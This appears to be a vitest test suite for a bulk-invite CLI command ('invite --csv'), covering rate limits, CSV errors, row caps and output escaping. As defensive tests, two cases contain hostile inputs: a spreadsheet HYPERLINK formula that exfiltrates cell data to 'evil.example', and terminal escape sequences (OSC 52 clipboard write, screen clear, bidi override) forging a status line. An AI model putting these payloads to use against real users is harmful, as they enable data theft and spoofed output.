import { readFileSync, statSync, writeFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  DATABASE_URL,
  freshDatabase,
  hasScript,
  ROOT,
  runCli,
  runDocLine,
  runOnTerminal,
  scratch,
} from '../test-support/harness';

const N = 1_000;
// What a terminal acts on, line ends aside: C0, DEL, C1, the bidi overrides and isolates.
// biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point.
const CONTROLS = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
const RATE = 200;
// The token bucket starts full: this many go at once, the rest at RATE per second.
const BURST = RATE;

describe.skipIf(DATABASE_URL === undefined)('invite --csv', { timeout: 180_000 }, () => {
  let db: Awaited<ReturnType<typeof freshDatabase>>;
  let dir: ReturnType<typeof scratch>;
  beforeAll(async () => {
    db = await freshDatabase('bulk');
    dir = scratch();
  });
  afterAll(async () => {
    dir?.remove();
    await db?.close();
  });
  const createdAts = async () =>
    (
      await db.pool.query<{ created_at: Date }>(
        `SELECT created_at FROM "${db.schema}".invitations WHERE email LIKE 'bulk%' ORDER BY created_at`,
      )
    ).rows.map((r) => r.created_at.getTime());

  it(`1,000 rows at --rate ${RATE}/s hold the rate; re-running the file creates 0 new invitations`, async () => {
    const csv = dir.path('team.csv');
    writeFileSync(
      csv,
      `email,role\n${Array.from({ length: N }, (_, i) => `bulk${i}@example.com,member`).join('\n')}\n`,
    );
    const first = await runCli(
      ['invite', '--csv', csv, '--rate', `${RATE}/s`, '--concurrency', '8', '--out', dir.path('out.csv')],
      {
        env: db.env,
      },
    );
    expect(first.stdout).toBe(`sent ${N}, skipped 0, failed 0 (per row: ${dir.path('out.csv')})\n`);
    expect(first.code).toBe(0);
    // Not a terminal: plain progress lines, ending with the total.
    expect(first.stderr).toContain(`invite: ${N}/${N} (sent ${N}, skipped 0, failed 0)`);
    const times = await createdAts();
    expect(times).toHaveLength(N);
    // (n − burst) / rate seconds at least between the first and the last; 2% allowance for the first
    // inserts, which wait for their connections after taking their tokens.
    const spreadMs = (times.at(-1) as number) - (times[0] as number);
    expect(spreadMs).toBeGreaterThanOrEqual(((N - BURST) / RATE) * 1000 * 0.98);
    // Per row, with the link (no config file: the results file is how the links are delivered).
    const rows = parse(readFileSync(dir.path('out.csv')), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(N);
    expect(rows[0]).toMatchObject({ line: '2', email: 'bulk0@example.com', status: 'sent' });
    expect(rows[0]?.['url']).toMatch(/^https:\/\/app\.example\.com\/signup\?token=/);

    const again = await runCli(['invite', '--csv', csv, '--rate', `${RATE}/s`, '--json'], { env: db.env });
    expect(again.code).toBe(0);
    expect(JSON.parse(again.stdout)).toMatchObject({ sent: 0, skipped: N, failed: 0 });
    expect(await createdAts()).toHaveLength(N);
  });

  it('bad rows are reported with their line numbers and do not stop the valid ones (BOM, CRLF, quoted commas)', async () => {
    const csv = dir.path('mixed.csv');
    writeFileSync(
      csv,
      [
        '\uFEFFemail,role,expires,team',
        'ok1@example.com,editor,3d,red',
        'not-an-email,user,,blue',
        '"ok2@example.com","role, with comma",,x',
        '"ok3@example.com",viewer,,"green, blue"',
        'ok4@example.com,viewer,soon,',
        'ok5@example.com,viewer,1d,x,extra',
        '',
        'ok1@example.com,editor,,',
      ].join('\r\n'),
    );
    const result = await runCli(['invite', '--csv', csv, '--out', dir.path('mixed-out.csv'), '--json'], {
      env: db.env,
    });
    expect(result.code).toBe(1);
    const doc = JSON.parse(result.stdout);
    const byLine = Object.fromEntries(
      doc.results.map((r: { line: number; status: string }) => [r.line, r.status]),
    );
    expect(byLine).toEqual({
      2: 'sent',
      3: 'failed',
      4: 'failed',
      5: 'sent',
      6: 'failed',
      7: 'failed',
      9: 'skipped',
    });
    expect(result.stderr).toContain('mixed.csv:1: unknown column "team"');
    expect(result.stderr).toMatch(/mixed\.csv:3: not-an-email invalid_request/);
    expect(result.stderr).toMatch(/mixed\.csv:4: ok2@example\.com invalid_request/);
    expect(result.stderr).toMatch(/mixed\.csv:6: .*expires must be a duration/);
    expect(result.stderr).toMatch(/mixed\.csv:7: .*5 fields, the header has 4/);
    const invited = await db.pool.query<{ email: string; role: string; expires_at: Date; created_at: Date }>(
      `SELECT email, role, expires_at, created_at FROM "${db.schema}".invitations WHERE email LIKE 'ok%' ORDER BY email`,
    );
    expect(invited.rows.map((r) => [r.email, r.role])).toEqual([
      ['ok1@example.com', 'editor'],
      ['ok3@example.com', 'viewer'],
    ]);
    const ttl = (invited.rows[0]?.expires_at.getTime() ?? 0) - (invited.rows[0]?.created_at.getTime() ?? 0);
    expect(Math.round(ttl / 86_400_000)).toBe(3);
  });

  it('an empty file, a header without rows, or broken quoting sends nothing and exits 1 with a line number', async () => {
    const cases: [string, string, RegExp][] = [
      ['empty.csv', '', /empty\.csv:1: the file is empty/],
      ['bom-only.csv', '\uFEFF\r\n', /bom-only\.csv:1: the file is empty/],
      ['header.csv', 'email,role\r\n', /header\.csv:1: the file has no rows/],
      ['noemail.csv', 'name,role\nada,admin\n', /noemail\.csv:1: the header has no email column/],
      ['quote.csv', 'email\nq1@example.com\n"q2@example.com\n', /quote\.csv:\d+: not valid CSV/],
      // An open quote runs on through the rest of the file: cut off at one record's bound, not read whole.
      [
        'runaway.csv',
        `email\nq1@example.com\n"q3@example.com\n${'x'.repeat(70_000)}\n`,
        /runaway\.csv:\d+: not valid CSV: a record longer than 65536 characters/,
      ],
    ];
    for (const [name, text, message] of cases) {
      writeFileSync(dir.path(name), text);
      const result = await runCli(['invite', '--csv', dir.path(name)], { env: db.env });
      expect(result.code, name).toBe(1);
      expect(result.stderr, name).toMatch(message);
      expect(result.stderr, name).toContain('invalid_csv');
    }
    const q1 = await db.pool.query(`SELECT 1 FROM "${db.schema}".invitations WHERE email = 'q1@example.com'`);
    expect(q1.rows).toEqual([]);
  });

  it('a file with more data rows than --max-rows (default 100,000) sends nothing and names the flag; exit 2', async () => {
    const big = dir.path('big.csv');
    writeFileSync(
      big,
      `email\n${Array.from({ length: 100_001 }, (_, i) => `big${i}@example.com`).join('\n')}\n`,
    );
    // An unreachable database: the file is refused before anything is asked of it.
    const down = { ...db.env, DATABASE_URL: 'postgres://postgres@127.0.0.1:1/none' };
    const refused = await runCli(['invite', '--csv', big], { env: down });
    expect(refused.code).toBe(2);
    expect(refused.stderr).toMatch(
      /^jit-provision: csv_too_large: .*big\.csv:100002: more than 100000 rows \(--max-rows 100000\); nothing was sent: raise the limit with --max-rows <n>/,
    );
    const small = dir.path('eleven.csv');
    writeFileSync(
      small,
      `email\n${Array.from({ length: 11 }, (_, i) => `cap${i}@example.com`).join('\n')}\n`,
    );
    const capped = await runCli(['invite', '--csv', small, '--max-rows', '10'], { env: db.env });
    expect(capped.code).toBe(2);
    expect(capped.stderr).toContain('csv_too_large');
    expect(capped.stderr).toContain('--max-rows');
    const none = await db.pool.query(`SELECT 1 FROM "${db.schema}".invitations WHERE email LIKE 'cap%'`);
    expect(none.rows).toEqual([]);
    const raised = await runCli(['invite', '--csv', small, '--max-rows', '11', '--json'], { env: db.env });
    expect(raised.code, raised.stderr).toBe(0);
    expect(JSON.parse(raised.stdout)).toMatchObject({ sent: 11, failed: 0 });
    expect((await runCli(['invite', '--csv', small, '--max-rows', '0'], { env: db.env })).code).toBe(2);
  });

  it('--out neutralises formula cells (=, +, -, @) from the supplied file, and is readable by its owner only', async () => {
    const csv = dir.path('formulas.csv');
    const cells = [
      '=HYPERLINK("https://evil.example/?t="&F3,"open")@example.com',
      '+1+1@example.com',
      '-2+3@example.com',
      '@SUM(1)@example.com',
      '＝1+1@example.com',
    ];
    writeFileSync(
      csv,
      `email,role\n${cells.map((c) => `"${c.replaceAll('"', '""')}",user`).join('\n')}\nformula-ok@example.com,user\n`,
    );
    const out = dir.path('formulas-out.csv');
    // An existing, world-readable results file is narrowed too (open's mode applies only to a new file).
    writeFileSync(out, 'old\n', { mode: 0o644 });
    const result = await runCli(['invite', '--csv', csv, '--out', out], { env: db.env });
    expect(result.code).toBe(1);
    expect(statSync(out).mode & 0o777).toBe(0o600);
    const rows = parse(readFileSync(out), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r['email'])).toEqual([...cells.map((c) => `'${c}`), 'formula-ok@example.com']);
    for (const row of rows)
      for (const value of Object.values(row)) expect(value).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
    expect(rows.at(-1)?.['url']).toMatch(/^https:\/\/app\.example\.com\/signup\?token=/);
  });

  it('terminal controls in the file (OSC 52, screen clear, C1, bidi) are printed as escapes, never obeyed', async () => {
    const csv = dir.path('escapes.csv');
    const header = '\u001b]52;c;c2VudCAxMDAw\u0007\u001b[2J\u001b[Hsent 1000, skipped 0, failed 0';
    writeFileSync(
      csv,
      [
        `email,role,"${header}"`,
        '"esc\u001b[31m@example.com",user,x',
        '"c1\u009b2J@example.com",user,x',
        '"bidi\u202e@example.com",user,x',
      ].join('\n'),
    );
    // The expires column is the third one only in a file that has it: a file of its own for a bad duration.
    const durations = dir.path('escapes-expires.csv');
    writeFileSync(durations, 'email,expires\nd@example.com,"1d\u202e\u0007"\n');
    const jsonOut: string[] = [];
    for (const file of [csv, durations]) {
      const result = await runCli(['invite', '--csv', file], { env: db.env });
      expect(result.code).toBe(1);
      // Nothing a terminal acts on: no C0 but the line ends, no DEL, no C1, no bidi control.
      expect(result.stderr).not.toMatch(CONTROLS);
      const json = await runCli(['invite', '--csv', file, '--json'], { env: db.env });
      expect(json.stdout).not.toMatch(CONTROLS);
      jsonOut.push(json.stdout);
    }
    // Core takes an address with a bidi override (it is not a control character to it): sent on the first
    // run, skipped on the second, where --json shows it escaped, the same string to a JSON reader.
    expect(jsonOut[0]).toContain('"email": "bidi\\u202e@example.com"');
    expect(JSON.parse(jsonOut[0] as string).results).toContainEqual(
      expect.objectContaining({ email: 'bidi\u202e@example.com', status: 'skipped' }),
    );
    const shown = (await runCli(['invite', '--csv', csv], { env: db.env })).stderr;
    expect(shown).toContain(
      'escapes.csv:1: unknown column "\\x1b]52;c;c2VudCAxMDAw\\x07\\x1b[2J\\x1b[Hsent 1000, skipped 0, failed 0"',
    );
    expect(shown).toContain('esc\\x1b[31m@example.com');
    expect(shown).toContain('c1\\x9b2J@example.com');
    const duration = (await runCli(['invite', '--csv', durations], { env: db.env })).stderr;
    expect(duration).toContain('(got "1d\\u202e\\x07")');
  });

  it('every documented `invite --csv` line not marked for a config file runs as written on the environment', async () => {
    const lines = ['README.md', 'packages/cli/README.md', 'docs/cli.md'].flatMap((doc) =>
      readFileSync(`${ROOT}${doc}`, 'utf8')
        .split('\n')
        .filter((line) => /npx jit-provision invite --csv /.test(line) && !/with a config/.test(line))
        .map((line) => [doc, line.replace(/\s+#.*$/, '')] as const),
    );
    expect(new Set(lines.map(([doc]) => doc)).size).toBe(3);
    // DATABASE_URL "and friends": the database and the secret, as the app has them; nothing else.
    const { INVITATION_URL: _url, ...env } = db.env;
    for (const [i, [doc, line]] of lines.entries()) {
      const cwd = scratch();
      try {
        writeFileSync(cwd.path('team.csv'), `email\ndoc-line-${i}@example.com\n`);
        const result = await runDocLine(line, { env, cwd: cwd.dir });
        expect(result.code, `${doc}: ${line}\n${result.stderr}`).toBe(0);
        const rows = parse(readFileSync(cwd.path('results.csv')), { columns: true }) as Record<
          string,
          string
        >[];
        expect(rows[0]?.['url'], doc).toMatch(/^https:\/\/app\.example\.com\/signup\?token=/);
      } finally {
        cwd.remove();
      }
    }
  });

  it('on a terminal (a pseudo-TTY from script(1)) the progress is a bar', async (context) => {
    if (!(await hasScript())) return context.skip('script(1) from util-linux is not installed');
    const csv = dir.path('tty.csv');
    writeFileSync(csv, `email\n${Array.from({ length: 30 }, (_, i) => `tty${i}@example.com`).join('\n')}\n`);
    const { code, output } = await runOnTerminal(['invite', '--csv', csv, '--rate', '20/s'], db.env);
    expect(code).toBe(0);
    // cli-progress's bar: its shade characters, redrawn in place, and the final count.
    expect(output).toMatch(/[\u2588\u2591]{10,}/);
    expect(output).toContain('30/30');
    expect(output).not.toContain('invite: 30/30 (sent');
    expect(output).toContain('sent 30, skipped 0, failed 0');
  });
});
